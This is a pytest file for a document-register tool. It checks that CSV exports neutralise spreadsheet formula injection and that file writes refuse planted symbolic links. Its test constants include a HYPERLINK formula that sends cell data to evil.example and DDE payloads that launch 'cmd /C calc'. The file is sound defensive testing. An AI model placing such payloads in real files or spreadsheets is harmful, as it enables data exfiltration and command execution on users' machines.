"""Safe at the edges (issue 21): what styrdok writes for others to open.

Spreadsheet formulas: text a person typed never reaches a CSV file as a live formula, while
numbers stay numbers. Files on disk: a symbolic link planted at a file name styrdok writes
(or at the temporary name beside it) never redirects the write onto another file.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from conftest import NOW, day, policy, request
from styrdok import Funding, Person
from styrdok.cli import main
from styrdok.csvsafe import safe_cell
from styrdok.errors import InvalidValue
from styrdok.files import write_atomically
from styrdok.registry import Registry

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Klicka")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+46 8 123 45 67"
MINUS = "-2+3+cmd|' /C calc'!A0"
VICTIM_TEXT = "the file someone wanted overwritten\n"


# --- spreadsheet formulas ----------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [HYPERLINK, DDE, PLUS, MINUS, "\t=1+1", "\r=1+1", "\0=1+1", "=", "-"]
)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text: str) -> None:
    """= + - @ tab CR (and NUL) at the start of text: prefixed with ', nothing else changed."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-5, 0, 3.5, -2.25, Decimal("-18500.00"), "-40", "+7", "-0.5", "", "Pilot", " =1", "a=b",
     "'=already text", "2026-11-22", None, True],
)  # fmt: skip
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    """Numbers (even negative, even written as text) stay numbers; other text is unchanged."""
    assert safe_cell(value) is value


def test_a_number_followed_by_more_is_not_a_number() -> None:
    """`-5+cmd…` or `-1e3` are not plain numbers: neutralised."""
    assert safe_cell("-5+cmd|' /C calc'!A0") == "'-5+cmd|' /C calc'!A0"
    assert safe_cell("-1e3") == "'-1e3"
    assert safe_cell("-5\n") == "'-5\n"


@pytest.fixture
def hostile(registry: Registry) -> Registry:
    """A register whose people typed formulas: a document title and purpose, a requester's
    scope, a funder, a person's name; one approved dispensation, one overdue review."""
    registry.add_person(Person("admin", "Ada Admin", is_admin=True), actor=None)
    for ref, name in (
        ("owner", "Olga Ägare"),
        ("guardian", "Gunnar Väktare"),
        ("approver", "Ann Attest"),
        ("requester", DDE),
        ("responsible", "Rut Ansvarig"),
    ):
        registry.add_person(Person(ref, name), actor="admin")
    from styrdok import Body

    registry.add_body(Body("KS", "Kommunstyrelsen", "executive_board"), actor="admin")
    registry.add_document(policy(title=HYPERLINK, purpose=MINUS), actor="owner")
    registry.adopt_document("POL-1", actor="owner", body="KS", on=day(-500), minute_ref="§ 1")
    ref = registry.request_dispensation(
        request(scope=HYPERLINK, funding=Funding(funded_by=PLUS, estimated_cost=Decimal(100))),
        actor="requester",
    ).ref
    registry.approve_dispensation(ref, actor="guardian")
    return registry


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _every_cell_quoted(text: str) -> None:
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"'), line


def test_export_csv_neutralises_formulas(hostile: Registry, tmp_path: Path) -> None:
    """`export --csv`: every cell quoted; a formula someone typed arrives as text."""
    hostile.export_csv(tmp_path / "csv")
    documents = (tmp_path / "csv" / "documents.csv").read_text(encoding="utf-8-sig")
    dispensations = (tmp_path / "csv" / "dispensations.csv").read_text(encoding="utf-8-sig")
    persons = (tmp_path / "csv" / "persons.csv").read_text(encoding="utf-8-sig")
    _every_cell_quoted(documents)
    (document,) = _rows(documents)
    assert (document["title"], document["purpose"]) == ("'" + HYPERLINK, "'" + MINUS)
    assert document["version"] == "1"
    (disp,) = _rows(dispensations)
    assert disp["scope"] == "'" + HYPERLINK
    assert disp["funding.funded_by"] == "'" + PLUS
    assert disp["funding.estimated_cost"] == "100.00"
    assert {r["name"] for r in _rows(persons)} >= {"'" + DDE, "Ada Admin"}


def test_the_json_export_stays_lossless(hostile: Registry, db_url: str, tmp_path: Path) -> None:
    """JSON is not for spreadsheets: the text is exported as typed, and export → import →
    export gives the same bytes."""
    first = io.StringIO()
    hostile.export_json(first)
    data = json.loads(first.getvalue())
    assert data["dispensations"][0]["scope"] == HYPERLINK
    path = tmp_path / "copy.db"
    with Registry.open(path, create=True, clock=lambda: NOW) as copy:
        copy.import_json(io.StringIO(first.getvalue()), actor=None)
        again = io.StringIO()
        copy.export_json(again)
    assert again.getvalue() == first.getvalue()


def test_public_export_neutralises_formulas(hostile: Registry, tmp_path: Path) -> None:
    """Open data (`export --public`): formulas neutralised in CSV, untouched in JSON."""
    hostile.export_public(tmp_path / "www", people="names")
    documents = (tmp_path / "www" / "documents.csv").read_text(encoding="utf-8")
    dispensations = (tmp_path / "www" / "dispensations.csv").read_text(encoding="utf-8")
    _every_cell_quoted(documents)
    (document,) = _rows(documents)
    assert (document["title"], document["purpose"], document["version"]) == (
        "'" + HYPERLINK,
        "'" + MINUS,
        "1",
    )
    (disp,) = _rows(dispensations)
    assert disp["scope"] == "'" + HYPERLINK
    published = json.loads((tmp_path / "www" / "register.json").read_text(encoding="utf-8"))
    assert published["dispensations"][0]["scope"] == HYPERLINK


def test_csv_listings_neutralise_formulas_and_keep_negative_numbers(
    hostile: Registry, cli: Callable[..., Result]
) -> None:
    """`--format csv`: a formula in a listing or a shown record arrives as text, while an
    overdue item's negative days left stays a number."""
    listed = cli("--format", "csv", "disp", "list").output
    _every_cell_quoted(listed)
    assert "'" + HYPERLINK in {cell for row in _rows(listed) for cell in row.values()}
    shown = _rows(cli("--format", "csv", "doc", "show", "POL-1").output)[0]
    assert shown["title"] == "'" + HYPERLINK
    due = _rows(cli("--format", "csv", "due", "--today", str(day(400))).output)
    review = next(r for r in due if r["kind"] == "review")
    assert review["title"] == "'" + HYPERLINK
    assert int(review["days_left"]) < 0  # "-35", not "'-35"


def test_report_csv_neutralises_formulas(hostile: Registry, cli: Callable[..., Result]) -> None:
    """`report` in CSV: a funder's name is a group, and arrives as text."""
    output = cli("--format", "csv", "report", "--today", str(day(20))).output
    _every_cell_quoted(output)
    groups = {r["group"] for r in _rows(output) if r["section"] == "cost_by_funder"}
    assert groups == {f"'{PLUS} (SEK)"}


# --- files on disk -----------------------------------------------------------------------


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Path]:
    """A file outside the export folder that a planted link points at; it must not change."""
    path = tmp_path / "victim.txt"
    path.write_text(VICTIM_TEXT, encoding="utf-8")
    yield path
    assert path.read_text(encoding="utf-8") == VICTIM_TEXT


@pytest.fixture
def db(seeded: Registry, db_url: str) -> str:
    """The seeded register (POL-1 in force) for the command line."""
    return db_url


def run(db: str, *args: str) -> Result:
    return CliRunner().invoke(main, ["--db", db, *args])


def refused(result: Result, link: Path) -> None:
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == (
        f"Error: {link} är en symbolisk länk; styrdok skriver inte via länkar\n"
    )


def test_export_csv_refuses_a_link_at_a_file_name(db: str, tmp_path: Path, victim: Path) -> None:
    """`export --csv DIR` with DIR/documents.csv → victim: refused, no file of the set written."""
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "documents.csv").symlink_to(victim)
    refused(run(db, "export", "--csv", str(folder)), folder / "documents.csv")
    assert sorted(p.name for p in folder.iterdir()) == ["documents.csv"]
    assert (folder / "documents.csv").is_symlink()


def test_export_public_refuses_a_link_at_a_file_name(db: str, tmp_path: Path, victim: Path) -> None:
    """`export --public DIR` with DIR/dispensations.csv → victim: refused, nothing written."""
    folder = tmp_path / "www"
    folder.mkdir()
    (folder / "dispensations.csv").symlink_to(victim)
    refused(run(db, "export", "--public", str(folder)), folder / "dispensations.csv")
    assert sorted(p.name for p in folder.iterdir()) == ["dispensations.csv"]


def test_export_refuses_a_link_as_its_output(db: str, tmp_path: Path, victim: Path) -> None:
    """`export -o FILE` where FILE is a link: refused, the link and its target untouched."""
    link = tmp_path / "register.json"
    link.symlink_to(victim)
    refused(run(db, "export", "-o", str(link)), link)
    assert link.is_symlink()


def test_report_html_refuses_a_link(db: str, tmp_path: Path, victim: Path) -> None:
    """`report --html FILE` where FILE is a link: refused, nothing written."""
    link = tmp_path / "report.html"
    link.symlink_to(victim)
    refused(run(db, "report", "--html", str(link)), link)


@pytest.mark.parametrize(
    ("args", "names"),
    [
        (["export", "-o", "{dir}/register.json"], ["register.json"]),
        (["export", "--public", "{dir}"], ["register.json", "documents.csv", "dispensations.csv"]),
        (["export", "--csv", "{dir}"], ["persons.csv", "documents.csv", "questions.csv"]),
        (["report", "--html", "{dir}/report.html"], ["report.html"]),
    ],
    ids=["export -o", "export --public", "export --csv", "report --html"],
)
def test_a_planted_partial_link_is_never_written_through(
    db: str, tmp_path: Path, victim: Path, args: list[str], names: list[str]
) -> None:
    """`<name>.partial` links planted beside every target (the old temporary name) are
    ignored: the command writes real files and leaves the links and the victim alone."""
    folder = tmp_path / "out"
    folder.mkdir()
    for name in names:
        (folder / f"{name}.partial").symlink_to(victim)
    result = run(db, *(a.format(dir=folder) for a in args))
    assert result.exit_code == 0, result.output
    for name in names:
        target = folder / name
        assert target.is_file() and not target.is_symlink()
        assert (folder / f"{name}.partial").is_symlink()
    assert not [p for p in folder.iterdir() if p.name.startswith(".")]


def test_the_temporary_name_is_created_exclusively(
    tmp_path: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Even a link planted at the very temporary name guessed right is not followed: the
    writer takes the next name."""
    guesses = iter(["guessed", "another"])
    monkeypatch.setattr("styrdok.files.secrets.token_hex", lambda n: next(guesses))
    planted = tmp_path / ".out.txt.guessed.partial"
    planted.symlink_to(victim)
    write_atomically(tmp_path / "out.txt", lambda handle: handle.write("new"))
    assert (tmp_path / "out.txt").read_text(encoding="utf-8") == "new"
    assert planted.is_symlink()
    assert not (tmp_path / ".out.txt.another.partial").exists()


def test_a_link_at_the_target_is_refused_in_the_library(tmp_path: Path, victim: Path) -> None:
    """`write_atomically` itself refuses a link at the target, before calling ``write``."""
    link = tmp_path / "out.txt"
    link.symlink_to(victim)
    called = []
    with pytest.raises(InvalidValue, match="is a symbolic link"):
        write_atomically(link, called.append)
    assert called == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.txt", "victim.txt"]


def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(tmp_path: Path) -> None:
    """A write that fails half-way leaves what was there and cleans up after itself."""
    target = tmp_path / "out.txt"
    target.write_text("old", encoding="utf-8")

    def fail(handle: object) -> None:
        handle.write("half")  # type: ignore[attr-defined]
        raise RuntimeError("disk gone")

    with pytest.raises(RuntimeError):
        write_atomically(target, fail)
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_a_replaced_file_keeps_its_permissions(tmp_path: Path) -> None:
    """An export someone made private (0600) stays private when it is written again."""
    target = tmp_path / "register.json"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o600)
    write_atomically(target, lambda handle: handle.write("new"))
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_text(encoding="utf-8") == "new"
